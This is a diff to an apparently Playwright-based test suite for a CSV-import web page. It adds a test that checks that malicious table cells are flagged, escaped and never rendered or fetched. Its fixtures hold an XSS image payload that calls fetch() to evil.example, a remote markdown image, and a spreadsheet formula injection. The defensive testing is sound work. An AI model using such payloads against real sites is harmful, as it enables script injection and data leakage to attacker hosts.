@@ -25,6 +25,12 @@ _TABLE = (
 ).encode("cp1252")
 _IMAGE = "<img src=//evil.example/x.png onerror=fetch('//evil.example')>"
 _PICTURE = "![kite picture](https://evil.example/x.png)"
+_BROKEN = (
+    "Country;Position;Date;Source\n"
+    f"Fiji;ally;13/10/2025;{_IMAGE}\n"
+    f"Oman;ally;14/10/2025;{_PICTURE}\n"
+    "Germany;against;16/10/2025;=1+1\n"
+).encode()
 _BUILT_IN = "Who backs Suva?"
 # A machine that is busy takes long for the largest table; that is no fault of the page.
 _LONG_MS = 300_000
@@ -161,4 +167,21 @@ def test_a_broken_archive_lists_its_faults_and_gives_its_faulty_rows(
     (row,) = _faulty_rows(page, "stances")
     assert (row["row"], row["actor_id"], row["stance"]) == (str(number), "'=1", _IMAGE)
     assert "actor_id: found" in row["faults"]
+    assert visit.asked_of_others() == []
+
+
+def test_a_broken_table_lists_its_faults_runs_nothing_and_gives_its_faulty_rows(
+    visit: Visit,
+) -> None:
+    page = _bring(visit, "kites.csv", _BROKEN)
+    _answer(visit, "Stances are toward", "Venezuela")
+    _type(visit, "bring-question", "Who flies kites?")
+    page.get_by_role("button", name="Check every row and open the map").click()
+    expect(page.get_by_role("heading", name="1 fault to mend")).to_be_visible()
+    visit.settle()
+    assert {"kites.csv", "4", "Source"} <= _listed(page)
+    assert page.locator("[src*=evil], [href*=evil]").count() == 0
+    (row,) = _faulty_rows(page, "table")
+    assert (row["row"], row["Country"], row["Source"]) == ("4", "Germany", "'=1+1")
+    assert row["faults"].startswith("Source: found ")
     assert visit.asked_of_others() == []
